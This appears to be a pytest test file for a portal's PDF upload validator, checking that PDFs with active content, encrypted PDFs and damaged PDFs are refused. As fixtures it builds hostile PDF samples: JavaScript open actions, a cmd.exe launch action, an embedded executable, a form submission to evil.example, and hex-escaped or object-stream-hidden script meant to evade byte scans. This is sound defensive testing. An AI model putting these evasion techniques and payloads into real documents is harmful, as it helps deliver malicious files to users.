"""Malicious and damaged PDFs are refused (T34), by the object walk and the raw scanner."""

from __future__ import annotations

import logging

import pytest
from pypdf.generic import NameObject, TextStringObject

from municipal_order.lib.uploads import (
    check_upload,
)
from municipal_order.lib.uploads import pdf as upload_pdf
from municipal_order.lib.uploads.pdf import PdfNameScanner, pdf_name
from tests.uploads.builders import (
    CATALOG,
    PAGE,
    PAGES,
    PE,
    _open_action,
    minimal_pdf,
    objstm_pdf,
    raw_pdf,
    refused,
    text,
    upload,
)

# --- T34: malicious PDFs -------------------------------------------------------------------


def _with_javascript(writer):
    _open_action(
        writer,
        {"/S": NameObject("/JavaScript"), "/JS": TextStringObject("app.alert('pwned')")},
    )


def _with_launch(writer):
    _open_action(writer, {"/S": NameObject("/Launch"), "/F": TextStringObject("cmd.exe")})


def _with_attachment(writer):
    writer.add_attachment("payload.exe", PE)


@pytest.mark.parametrize(
    "configure",
    [_with_javascript, _with_launch, _with_attachment],
    ids=["open-action-javascript", "launch", "embedded-file"],
)
def test_a_pdf_with_active_content_is_refused(configure):
    error = refused(upload("report.pdf", minimal_pdf(configure)))
    assert error.code == "active_content"
    assert text(error) == (
        "The PDF contains active content (scripts, launch actions or attached files); "
        "save it again as a plain PDF."
    )


@pytest.mark.parametrize(
    "action",
    [
        b"<< /S /SubmitForm /F (https://evil.example/) >>",
        b"<< /S /ImportData /F (data.fdf) >>",
        b"<< /S /GoToE /D [0 /Fit] >>",
        b"<< /S /RichMediaExecute /TI << /Type /RichMedia >> >>",
        b"<< /S /URI /URI (https://example.kg/) /Next << /S /J#61vaScript /J#53 (x) >> >>",
    ],
    ids=["submit-form", "import-data", "goto-embedded", "rich-media", "escaped-javascript"],
)
def test_other_active_actions_are_refused(action):
    catalog = b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>"
    data = raw_pdf({1: catalog, 2: PAGES, 3: PAGE, 4: action})
    assert refused(upload("form.pdf", data)).code == "active_content"


@pytest.mark.parametrize(
    "data",
    [
        minimal_pdf(_with_javascript),
        minimal_pdf(_with_launch),
        minimal_pdf(_with_attachment),
        raw_pdf(
            {
                1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
                2: PAGES,
                3: PAGE,
                4: b"<< /S /J#61vaScript /J#53 (x) >>",
            }
        ),
    ],
    ids=["javascript", "launch", "embedded-file", "escaped-javascript"],
)
def test_the_object_walk_alone_finds_active_content(monkeypatch, data):
    # The raw byte scan is only a first pass: blind it, and pypdf's walk still refuses.
    monkeypatch.setattr(PdfNameScanner, "feed", lambda self, data, final=False: None)
    assert refused(upload("report.pdf", data)).code == "active_content"


def test_a_pdf_with_too_many_objects_is_refused(monkeypatch):
    monkeypatch.setattr(upload_pdf, "PDF_MAX_OBJECTS", 3)
    error = refused(upload("report.pdf", raw_pdf({1: CATALOG, 2: PAGES, 3: PAGE, 4: b"<< >>"})))
    assert error.code == "too_complex"
    assert "over 3 objects" in text(error)


def test_an_xfa_form_is_refused():
    catalog = b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [] /XFA 4 0 R >> >>"
    data = raw_pdf({1: catalog, 2: PAGES, 3: PAGE, 4: b"<< /Length 0 >>\nstream\n\nendstream"})
    assert refused(upload("form.pdf", data)).code == "active_content"


def test_javascript_hidden_in_a_compressed_object_stream_is_refused(caplog):
    data = objstm_pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
            4: b"<< /S /J#61vaScript /J#53 (app.launchURL\\('https://evil.example'\\)) >>",
        },
        {2: PAGES, 3: PAGE},
    )
    assert b"JavaScript" not in data and b"J#61" not in data  # invisible to a byte search
    caplog.set_level(logging.WARNING, logger="portal.security")
    assert refused(upload("report.pdf", data)).code == "active_content"
    assert caplog.records[-1].detail.startswith("object 4 0: /J")  # found by the object walk


def test_an_object_stream_object_missing_from_the_xref_is_still_seen(caplog):
    data = objstm_pdf(
        {1: CATALOG, 4: b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"},
        {2: PAGES, 3: PAGE},
        unlisted={4},
    )
    caplog.set_level(logging.WARNING, logger="portal.security")
    assert refused(upload("report.pdf", data)).code == "active_content"
    assert "in an object stream" in caplog.records[-1].detail


def test_an_encrypted_pdf_is_refused():
    data = minimal_pdf(lambda writer: writer.encrypt("secret"))
    error = refused(upload("secret.pdf", data))
    assert error.code == "encrypted"
    assert text(error) == "Password-protected PDFs are not accepted."


@pytest.mark.parametrize(
    "data",
    [
        minimal_pdf()[: len(minimal_pdf()) // 2],
        b"%PDF-1.7\nnothing here at all\n%%EOF\n",
        b"%PDF-1.4 minutes",
        raw_pdf({1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Kids [] >>"}),
    ],
    ids=["truncated", "no-objects", "magic-only", "no-pages"],
)
def test_a_damaged_pdf_is_refused(data):
    error = refused(upload("report.pdf", data))
    assert error.code == "damaged"
    assert text(error) == "The PDF file is damaged."


def test_a_pdf_whose_xref_points_everywhere_wrong_is_refused(monkeypatch):
    # pypdf repairs each wrong entry by searching the whole file: thousands of
    # them would take minutes, so past a limit the file counts as damaged.
    monkeypatch.setattr(upload_pdf, "PDF_MAX_BAD_OFFSETS", 2)
    objects = {1: CATALOG, 2: PAGES, 3: PAGE, 4: b"<< >>", 5: b"<< >>"}
    assert check_upload(upload("report.pdf", raw_pdf(objects))).kind == "pdf"
    spoiled = raw_pdf(objects, all_at_first=True)
    assert refused(upload("report.pdf", spoiled)).code == "damaged"


# --- the raw scanner ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("raw", "name"),
    [(b"J#61vaScript", "JavaScript"), (b"#4A#53", "JS"), (b"Launch", "Launch"), (b"A#2", "A#2")],
)
def test_pdf_names_are_unescaped(raw, name):
    assert pdf_name(raw) == name


def test_the_raw_scanner_finds_names_split_across_chunks():
    data = b"1 0 obj << /Type /Action /S /J#61vaScript >> endobj " * 3
    for size in (1, 2, 3, 7, 64):
        scanner = PdfNameScanner()
        hits = [scanner.feed(data[i : i + size]) for i in range(0, len(data), size)]
        hits.append(scanner.feed(b"", final=True))
        assert "JavaScript" in hits, size


def test_the_raw_scanner_skips_stream_data_but_not_what_follows():
    scanner = PdfNameScanner()
    assert scanner.feed(b"<< /Length 9 >>\nstream\n/JS /XFA\nendstream\n", final=False) is None
    assert scanner.feed(b"endobj 2 0 obj << /Launch 1 >> " + bytes(200), final=True) == "Launch"
    # Names that merely start like an active one are not active.
    assert PdfNameScanner().feed(b"<< /JSX 1 /JavaScripts 2 /Launched 3 >>", final=True) is None
